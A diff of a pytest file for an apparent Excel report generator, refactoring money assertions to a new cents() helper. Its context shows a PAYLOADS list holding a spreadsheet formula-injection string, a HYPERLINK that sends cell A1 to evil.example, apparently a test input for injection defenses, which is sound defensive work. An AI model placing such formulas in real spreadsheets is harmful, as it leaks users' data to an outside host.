@@ -14,7 +14,7 @@ import openpyxl
 import pytest
 from openpyxl.utils import range_boundaries
 
-from .helpers import CENT, analyze, run
+from .helpers import CENT, analyze, cents, run
 
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
@@ -266,7 +266,7 @@ def test_chargeback_total_is_every_usage_row(demo_brief, demo_json):
         exact = sum((Decimal(r["cost"]) for r in csv.DictReader(fh) if r["date"] <= demo_json["as_of"]), Decimal(0))
     rows = table(demo_brief, "Chargeback")
     lines = sum((money(r["Amount"]) for r in rows), Decimal(0))
-    assert lines == exact.quantize(CENT)
+    assert lines == cents(exact)
     # and per month: the lines of a month add up to the month's exact total
     with open(usage, newline="", encoding="utf-8") as fh:
         by_month: dict[str, Decimal] = {}
@@ -276,7 +276,7 @@ def test_chargeback_total_is_every_usage_row(demo_brief, demo_json):
     got: dict[str, Decimal] = {}
     for r in rows:
         got[r["Month"].value] = got.get(r["Month"].value, Decimal(0)) + money(r["Amount"])
-    assert got == {m: v.quantize(CENT) for m, v in by_month.items()}
+    assert got == {m: cents(v) for m, v in by_month.items()}
 
 
 @pytest.mark.xfail(strict=True, reason="BUG: the Summary narrative says 'at this run rate it ends ... by "
